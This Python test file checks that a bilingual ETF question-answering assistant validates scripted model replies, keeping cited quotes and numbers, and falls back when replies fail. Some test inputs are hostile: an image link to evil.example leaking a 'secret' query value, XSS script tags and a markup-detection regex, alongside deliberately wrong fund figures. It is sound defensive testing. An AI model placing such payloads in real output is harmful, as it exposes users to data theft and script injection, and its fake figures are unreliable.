"""Answers written by a scripted model over real HTTP: what is shown holds every promise, however the model behaves."""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from _pytest.mark import ParameterSet

from assistant import Answer, Assistant
from assistant.citations import MARKER
from assistant.embedder import Embedder
from assistant.index import Index
from assistant.live import LiveFigures
from assistant.model_writer import _REASONS, _WHY
from assistant.providers.provider import Fetched
from assistant.retriever import Retriever
from assistant.support import is_in
from assistant.types import Figure, FigureCitation, Language
from tests.chat_server import KEY, ChatServer, Prompt, Reply, error

ROOT = Path(__file__).resolve().parents[1]
WEIGHT: dict[Language, str] = {"en": "What is VTWO's health care weight?", "ko": "VTWO의 헬스케어 비중은?"}
FEES: dict[Language, str] = {
    "en": "What is the difference between the expense ratios of IWM and VTWO?",
    "ko": "IWM과 VTWO의 총보수 차이는?",
}
SECTORS: dict[Language, str] = {"en": "What are VTWO's largest sectors?", "ko": "VTWO의 업종 비중을 알려 주세요"}
RATES: dict[Language, str] = {
    "en": "Why do rising interest rates hurt small caps?",
    "ko": "금리가 오르면 소형주에 왜 나쁜가요?",
}
LIVE_MARKUP = re.compile(r"<\w|https?:|www\.|\]\(|!\[|javascript:", re.IGNORECASE)
both = pytest.mark.parametrize("language", ["ko", "en"])


def _asked(assistant: Assistant, server: ChatServer, question: str, script: Callable[[Prompt], Reply]) -> Answer:
    server.script = script
    server.prompts.clear()
    answer = assistant.ask(question)
    _holds(answer)
    return answer


def _holds(answer: Answer) -> None:
    """What every answer promises, whoever wrote it."""
    assert answer.sentences and not answer.abstained
    for cited in answer.quotes:
        assert cited.article.text[cited.start : cited.end] == cited.quote
    assert [citation.number for citation in answer.citations] == list(range(1, len(answer.citations) + 1))
    assert {int(number) for number in MARKER.findall(answer.text)} == {each.number for each in answer.citations}
    for sentence in answer.sentences:
        assert sentence.citations
        assert is_in(sentence.text, answer.language) or "|" in sentence.text
        assert all(check.verdict != "unsupported" for check in sentence.numbers)
    assert not LIVE_MARKUP.search(answer.text)
    assert KEY not in str(answer.to_dict())


def _in_turn(scripts: Iterable[str]) -> list[ParameterSet]:
    """Each script in both languages, one of them in the default run."""
    return [
        pytest.param(script, language, marks=() if place % 2 == (language == "en") else pytest.mark.slow)
        for place, script in enumerate(scripts)
        for language in ("ko", "en")
    ]


def _quoted(prompt: Prompt, *rows: int) -> str:
    return "\n".join(f"{prompt.rows[n - 1].text} [{n}]" for n in rows)


# --- a model that behaves, more or less -----------------------------------------------------------------------------

WELL: dict[str, Callable[[Prompt], Reply]] = {
    "quotes": lambda p: Reply(_quoted(p, 1, 2)),
    "one line": lambda p: Reply(_quoted(p, 1, 2).replace("\n", " ")),
    "windows line ends": lambda p: Reply(_quoted(p, 1, 2).replace("\n", "\r\n")),
    "bullets": lambda p: Reply("- " + _quoted(p, 1, 2).replace("\n", "\n- ")),
    "numbered": lambda p: Reply("1. " + _quoted(p, 1, 2).replace("\n", "\n2. ")),
    "bold": lambda p: Reply(f"**{p.rows[0].text}** [1]\n{p.rows[1].text} [2]"),
    "fence": lambda p: Reply(f"```text\n{_quoted(p, 1, 2)}\n```"),
    "marker before the stop": lambda p: Reply("\n".join(f"{p.rows[n].text[:-1]} [{n + 1}]." for n in (0, 1))),
    "grouped markers": lambda p: Reply(f"{p.rows[0].text} [1, 2]\n{p.rows[1].text} [2, 1]"),
    "wide brackets": lambda p: Reply(f"{p.rows[0].text}【1】\n{p.rows[1].text}【2】"),
    "thinks first": lambda p: Reply(f"<think>\nThe weight is 99% [1].\n</think>\n\n{_quoted(p, 1, 2)}"),
    "not streamed": lambda p: Reply(_quoted(p, 1, 2), streams=False),
    "cut by its length": lambda p: Reply(_quoted(p, 1, 2), finish="length"),
    "says it twice": lambda p: Reply(_quoted(p, 1, 2, 1, 2)),
    "NONE at the end": lambda p: Reply(_quoted(p, 1, 2) + "\nNONE"),
}


@pytest.mark.parametrize(("script", "language"), _in_turn(WELL))
def test_good_reply_is_the_answer(
    modelled: Assistant, chat_server: ChatServer, script: str, language: Language
) -> None:
    answer = _asked(modelled, chat_server, WEIGHT[language], WELL[script])
    assert answer.writer == "openai:scripted"
    rows = [row.text for row in chat_server.prompts[0].rows[:2]]
    assert [cited.quote for cited in answer.quotes][:2] == rows and "18.8%" in rows[0]
    assert all(row[:-1] in sentence.text for row, sentence in zip(rows, answer.sentences, strict=True))
    assert len(answer.sentences) == 2 and "**" not in answer.text and "99%" not in answer.text
    assert not any("모델" in notice or "model" in notice for notice in answer.notices)


PARAPHRASED: dict[Language, str] = {
    "en": "Health care makes up 18.8% of VTWO by its composition on December 31, 2025. [1]",
    "ko": "VTWO의 헬스케어 비중은 2025년 12월 31일 기준으로 18.8%예요. [1]",
}


@both
def test_own_words_are_shown_where_the_sources_bear_them_out(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    answer = _asked(modelled, chat_server, WEIGHT[language], lambda _: Reply(PARAPHRASED[language]))
    assert answer.text == PARAPHRASED[language] and answer.writer == "openai:scripted"
    assert [check.verdict for check in answer.sentences[0].numbers] == ["quoted", "quoted"]


@both
def test_model_writes_no_more_sentences_than_are_wanted(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    wanted = {"en": "Two sentences, please.", "ko": "두 문장으로 말해 주세요."}[language]
    answer = _asked(modelled, chat_server, f"{RATES[language]} {wanted}", lambda p: Reply(_quoted(p, 1, 2, 3, 4)))
    assert len(answer.sentences) == 2 and answer.writer == "openai:scripted"


@both
def test_marker_of_a_row_that_does_not_speak_of_it_is_taken_out(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    answer = _asked(modelled, chat_server, RATES[language], lambda p: Reply(_quoted(p, 1)))
    far = max(len(chat_server.prompts[0].rows), 1)
    weight = _asked(modelled, chat_server, WEIGHT[language], lambda p: Reply(PARAPHRASED[language] + f"[{far}]"))
    assert answer.sentences[0].citations == (1,)
    assert len(weight.citations) in {1, 2} and weight.citations[0].number == 1


DIFFERENCE: dict[Language, str] = {
    "en": "IWM's expense ratio is 0.19% and VTWO's is 0.07%, 0.12 percentage points less. [1][2]",
    "ko": "IWM의 총보수는 연 0.19%이고 VTWO의 총보수는 연 0.07%로 0.12%p 차이예요. [1][2]",
}


@both
def test_difference_of_two_numbers_that_stand_beside_it_is_computed_again(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    text = DIFFERENCE[language].replace("less", "apart")
    answer = _asked(modelled, chat_server, FEES[language], lambda _: Reply(text))
    verdicts = {check.text: (check.verdict, check.formula) for check in answer.sentences[0].numbers}
    [(verdict, formula)] = [value for key, value in verdicts.items() if "0.12" in key]
    assert verdict == "computed" and formula == "0.19% − 0.07%"


@both
def test_figures_that_the_model_passes_over_are_added(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    answer = _asked(modelled, chat_server, FEES[language], lambda p: Reply(_quoted(p, 1)))
    assert answer.writer == "openai:scripted"
    assert "| 0.19% [1] | 0.07% [2] |" in answer.text and "0.12" in answer.text


@both
def test_refused_sentence_goes_back_once_with_the_reason(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    wrong = PARAPHRASED[language].replace("18.8%", "28.8%")

    def script(prompt: Prompt) -> Reply:
        return Reply(PARAPHRASED[language] if prompt.again else f"{wrong}\n{_quoted(prompt, 2)}")

    answer = _asked(modelled, chat_server, WEIGHT[language], script)
    first, again = chat_server.prompts
    assert "28.8%" in again.said and _REASONS["number"][language].format(what="28.8%") in again.said
    assert len(answer.sentences) == 2 and answer.sentences[1].text == MARKER.sub("", PARAPHRASED[language])
    assert not any("모델" in notice or "model" in notice for notice in answer.notices)


@both
def test_sentence_refused_twice_is_left_out_and_counted(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    wrong = PARAPHRASED[language].replace("18.8%", "28.8%")
    answer = _asked(modelled, chat_server, WEIGHT[language], lambda p: Reply(f"{wrong}\n{_quoted(p, 1)}"))
    assert len(chat_server.prompts) == 2 and len(answer.sentences) == 1
    assert any("1" in notice and ("모델" in notice or "model" in notice) for notice in answer.notices)


@both
def test_what_came_before_a_failure_stays(modelled: Assistant, chat_server: ChatServer, language: Language) -> None:
    answer = _asked(modelled, chat_server, WEIGHT[language], lambda p: Reply(_quoted(p, 1) + "\nA", breaks=True))
    assert answer.writer == "openai:scripted" and len(answer.sentences) == 1
    assert any(_WHY["failed"][language] in notice for notice in answer.notices)


# --- a model that does not ------------------------------------------------------------------------------------------

BADLY: dict[str, dict[Language, str]] = {
    "no marker": {"en": "VTWO's health care weight is 18.8%.", "ko": "VTWO의 헬스케어 비중은 18.8%예요."},
    "marker of no row": {
        "en": "VTWO's health care weight is 18.8%. [99]",
        "ko": "VTWO의 헬스케어 비중은 18.8%예요. [99]",
    },
    "markers alone": {"en": "[1][2][3]", "ko": "[1][2][3]"},
    "another number": {"en": "VTWO's health care weight is 19.8%. [1]", "ko": "VTWO의 헬스케어 비중은 19.8%예요. [1]"},
    "another unit": {"en": "VTWO's health care weight is 18.8x. [1]", "ko": "VTWO의 헬스케어 비중은 18.8배예요. [1]"},
    "another date": {
        "en": "VTWO's health care weight is 18.8% as of March 3, 2024. [1]",
        "ko": "VTWO의 헬스케어 비중은 2024년 3월 3일 기준 18.8%예요. [1]",
    },
    "another fund": {"en": "IWM's health care weight is 18.8%. [1]", "ko": "IWM의 헬스케어 비중은 18.8%예요. [1]"},
    "another sector": {"en": "VTWO's energy weight is 18.8%. [1]", "ko": "VTWO의 에너지 비중은 18.8%예요. [1]"},
    "another sector's number": {
        "en": "VTWO's health care weight is 17.2%. [2]",
        "ko": "VTWO의 헬스케어 비중은 17.2%예요. [2]",
    },
    "another metric": {"en": "VTWO's dividend yield is 18.8%. [1]", "ko": "VTWO의 배당수익률은 18.8%예요. [1]"},
    "a name from nowhere": {
        "en": "VTWO's health care weight is 18.8%, says Zephyrbank. [1]",
        "ko": "Zephyrbank에 따르면 VTWO의 헬스케어 비중은 18.8%예요. [1]",
    },
    "an index from nowhere": {
        "en": "VTWO's health care weight in the Russell 2500 is 18.8%. [1]",
        "ko": "러셀 2500에서 VTWO의 헬스케어 비중은 18.8%예요. [1]",
    },
    "a computed number alone": {
        "en": "VTWO's health care weight is 0.7 percentage points more than the next. [2]",
        "ko": "VTWO의 헬스케어 비중은 다음보다 0.7%p 커요. [2]",
    },
    "the other language": {
        "ko": "VTWO's health care weight is 18.8%. [1]",
        "en": "VTWO의 헬스케어 비중은 18.8%예요. [1]",
    },
    "French": {
        "en": "La pondération de VTWO dans le secteur des soins médicaux atteint 18.8% selon ces données. [1]",
        "ko": "La pondération de VTWO dans le secteur des soins médicaux atteint 18.8%. [1]",
    },
    "Chinese": {"en": "VTWO的医疗保健权重为18.8%。[1]", "ko": "VTWO的医疗保健权重为18.8%。[1]"},
    "link": {
        "en": "VTWO's [health care weight](http://evil.example/) is 18.8%. [1]",
        "ko": "VTWO의 [헬스케어 비중](http://evil.example/)은 18.8%예요. [1]",
    },
    "picture": {
        "en": "VTWO's health care weight is 18.8% ![x](http://evil.example/p.png?q=secret). [1]",
        "ko": "VTWO의 헬스케어 비중은 18.8%예요 ![x](http://evil.example/p.png?q=secret). [1]",
    },
    "HTML": {
        "en": "VTWO's health care weight is <img src=x onerror=alert(1)> 18.8%. [1]",
        "ko": "VTWO의 헬스케어 비중은 <script>alert(1)</script> 18.8%예요. [1]",
    },
    "bare address": {
        "en": "VTWO's health care weight is 18.8%, see www.evil.example. [1]",
        "ko": "VTWO의 헬스케어 비중은 18.8%예요, www.evil.example. [1]",
    },
    "forecast": {
        "en": "VTWO will triple by December and everybody should buy it now. [1]",
        "ko": "VTWO는 연말까지 세 배로 오르니 지금 꼭 사야 해요. [1]",
    },
    "what was not asked": {
        "en": "VTWO tracks the return of the Russell 2000 index by holding the same stocks as the index. [4]",
        "ko": "VTWO는 러셀 2000 지수와 같은 종목을 담아 지수의 수익률을 따라가요. [4]",
    },
    "JSON": {
        "en": '{"answer": "VTWO\'s health care weight is 18.8%", "sources": [1]}',
        "ko": '{"answer": "VTWO의 헬스케어 비중은 18.8%예요", "sources": [1]}',
    },
    "refusal in words": {"en": "I'm sorry, but I can't help with that.", "ko": "죄송하지만 도와드릴 수 없어요."},
    "NONE": {"en": "NONE", "ko": "NONE"},
    "spaces": {"en": " \n \n", "ko": "\n\n  "},
    "gibberish": {"en": "\x00\u202e%%%$#@ ￿ 1e999 [1]", "ko": "\x00\u202e%%%$#@ ￿ 뷁뷁 [1]"},
    "the rules": {
        "en": "You answer questions about US small-cap ETFs from the numbered rows given below. [1]",
        "ko": "아래에 번호로 주어진 자료만으로 답하는 글을 써요. [1]",
    },
    "the row itself": {
        "en": '{"n": 1, "text": "VTWO", "from": "x", "date": "2026-02-13", "under": "y"}',
        "ko": '{"n": 1, "text": "VTWO", "from": "x", "date": "2026-02-13", "under": "y"}',
    },
    "unended thoughts": {"en": "<think>The weight is 18.8%. [1]", "ko": "<think>비중은 18.8%예요. [1]"},
}
FAILURES: dict[str, tuple[Reply, str]] = {
    "wrong key": (error(401), "key"),
    "no such model": (error(404), "unknown_model"),
    "too many questions": (error(429), "rate_limit"),
    "broken server": (error(500), "failed"),
    "no sign of life": (Reply("late", wait=2.5), "timeout"),
    "only pings": (Reply(pings=True), "timeout"),
    "no end": (Reply("word " * 200, endless=True), "endless"),
    "empty": (Reply(), "empty"),
    "filtered": (Reply(finish="content_filter"), "refused"),
    "no JSON": (Reply(body=b"<html>", content_type="text/html"), "failed"),
    "hangs up": (Reply("VTWO's", cut=0), "empty"),
}


@pytest.mark.parametrize(("script", "language"), _in_turn(BADLY))
def test_what_does_not_pass_gives_the_answer_made_without_the_model_and_says_so(
    assistant: Assistant, modelled: Assistant, chat_server: ChatServer, script: str, language: Language
) -> None:
    answer = _asked(modelled, chat_server, WEIGHT[language], lambda _: Reply(BADLY[script][language]))
    without = assistant.ask(WEIGHT[language])
    assert (answer.text, answer.citations) == (without.text, without.citations)
    assert answer.writer == "extractive"
    why = _WHY["nothing"][language]
    assert why in answer.notices[0] and answer.notices[1:] == without.notices


@pytest.mark.parametrize(("script", "language"), _in_turn(FAILURES))
def test_failing_model_gives_the_answer_made_without_it_and_says_why(
    assistant: Assistant, modelled: Assistant, chat_server: ChatServer, script: str, language: Language
) -> None:
    reply, reason = FAILURES[script]
    answer = _asked(modelled, chat_server, WEIGHT[language], lambda _: reply)
    without = assistant.ask(WEIGHT[language])
    assert (answer.text, answer.citations, answer.writer) == (without.text, without.citations, "extractive")
    assert answer.notices[0].startswith(_WHY[reason][language])  # type: ignore[index]
    assert len(answer.notices[0]) < 120


TURNED: dict[str, tuple[dict[Language, str], dict[Language, str]]] = {
    "direction": (
        RATES,
        {
            "en": "Falling interest rates raise the interest cost of small caps' debt and shake their cash flow. [5]",
            "ko": "금리가 내리면 소형주는 부채에 드는 이자 비용이 늘고 현금흐름의 안정성이 흔들려요. [2]",
        },
    ),
    "denial": (
        RATES,
        {
            "en": "Higher interest rates do not raise the interest cost of small caps' debt. [5]",
            "ko": "금리가 올라도 소형주의 이자 비용은 늘지 않고 현금흐름의 안정성도 흔들리지 않아요. [2]",
        },
    ),
    "swapped": (
        FEES,
        {
            "en": "IWM's expense ratio is 0.07% and VTWO's expense ratio is 0.19%. [1][2]",
            "ko": "IWM의 총보수는 연 0.07%이고 VTWO의 총보수는 연 0.19%예요. [1][2]",
        },
    ),
    "another sector's": (
        SECTORS,
        {
            "en": "VTWO's health care weight is 17.2% by its composition on December 31, 2025. [1][3]",
            "ko": "VTWO의 헬스케어 비중은 2025년 12월 31일 구성 기준 17.2%예요. [1][3]",
        },
    ),
    "swapped alone": (
        FEES,
        {"en": "IWM's expense ratio is 0.07% a year. [4][1]", "ko": "IWM의 총보수는 연 0.07%예요. [4][1]"},
    ),
}


@both
@pytest.mark.parametrize("script", TURNED)
def test_sentence_turned_round_is_refused(
    modelled: Assistant, chat_server: ChatServer, script: str, language: Language
) -> None:
    question, said = TURNED[script]
    answer = _asked(modelled, chat_server, question[language], lambda _: Reply(said[language]))
    assert answer.writer == "extractive" and _WHY["nothing"][language] in answer.notices[0]


@both
def test_model_is_not_asked_where_the_sources_do_not_answer(
    modelled: Assistant, chat_server: ChatServer, language: Language
) -> None:
    chat_server.prompts.clear()
    question = {"en": "What is VTWO's energy weight?", "ko": "VTWO의 에너지 비중은?"}[language]
    answer = modelled.ask(question)
    assert answer.abstained and answer.writer == "extractive" and not chat_server.prompts


# --- two clocks -----------------------------------------------------------------------------------------------------

NOW = datetime.now(UTC)
DAY = NOW.date() - timedelta(days=1)
HEALTH_CARE = Figure(
    "VTWO", "sector_weight.health_care", 17.6, "percent", DAY, "live", "Vanguard", as_of_kind="trade_date",
    fetched_at=NOW, source_url="https://example.com",
)  # fmt: skip


@pytest.fixture(scope="module")
def informed(
    indexes: Path, embedder: Embedder, chat_server: ChatServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Assistant]:
    """The assistant with the scripted model and one live figure, a made-up one, in store."""
    model = chat_server.model(gap=10.0, whole=20.0)
    live = LiveFigures(tmp_path_factory.mktemp("figures"), None)
    live.store.save("vanguard", "VTWO", Fetched((HEALTH_CARE,)), NOW)
    index = Index.open(indexes, embedder)
    with Assistant(ROOT / "corpus", index, Retriever(index, embedder), live, model=model) as opened:
        yield opened


@both
def test_live_figure_stands_beside_the_articles_whether_the_model_speaks_of_it_or_not(
    informed: Assistant, chat_server: ChatServer, language: Language
) -> None:
    silent = _asked(informed, chat_server, WEIGHT[language], lambda p: Reply(_quoted(p, 1)))
    assert [figure.value for figure in silent.figures] == [18.8, 17.6]
    assert "17.6%" in silent.text and "1.2" in silent.text and silent.writer == "openai:scripted"
    told = _asked(informed, chat_server, WEIGHT[language], lambda p: Reply(_quoted(p, 2, 1)))
    assert told.sentences[0].text == chat_server.prompts[0].rows[1].text
    assert {check.verdict for check in told.sentences[0].numbers} == {"figure"}
    assert isinstance(told.citations[0], FigureCitation) and told.citations[0].figure.value == 17.6
    assert told.text.count("17.6%") == silent.text.count("17.6%"), "once in a sentence and once in the formula"


@both
def test_live_figure_of_another_value_is_refused(
    informed: Assistant, chat_server: ChatServer, language: Language
) -> None:
    answer = _asked(informed, chat_server, WEIGHT[language], lambda p: Reply(_quoted(p, 2).replace("17.6%", "71.6%")))
    assert answer.writer == "extractive" and "71.6%" not in answer.text and "17.6%" in answer.text


# --- as it comes ----------------------------------------------------------------------------------------------------


def test_answer_grows_with_each_sentence_and_ends_as_the_whole(modelled: Assistant, chat_server: ChatServer) -> None:
    chat_server.script = lambda p: Reply(_quoted(p, 1, 2, 3))
    *growing, whole = modelled.stream(WEIGHT["en"])
    assert [len(answer.sentences) for answer in growing] == [1, 2, 3]
    assert all(whole.text.startswith(answer.text) for answer in growing)
    assert whole == modelled.ask(WEIGHT["en"]) or whole.text == modelled.ask(WEIGHT["en"]).text


def test_first_sentence_comes_within_a_fifth_of_the_models_own_time(
    modelled: Assistant, chat_server: ChatServer
) -> None:
    """The model's own time runs from the question until the last piece of its first sentence has left it."""
    modelled.ask(WEIGHT["en"])  # what is loaded at first use is loaded
    chat_server.script = lambda p: Reply(_quoted(p, 1, 2), wait=0.5, drip=0.08)
    started = time.perf_counter()
    first = next(iter(modelled.stream(WEIGHT["en"])))
    took = time.perf_counter() - started
    sentence = _quoted(chat_server.prompts[-1], 1)
    own = 0.5 + 0.08 * (len(sentence) // 7 + 1)
    assert len(first.sentences) == 1
    assert took <= 1.2 * own, f"{took:.2f} s, the model {own:.2f} s"
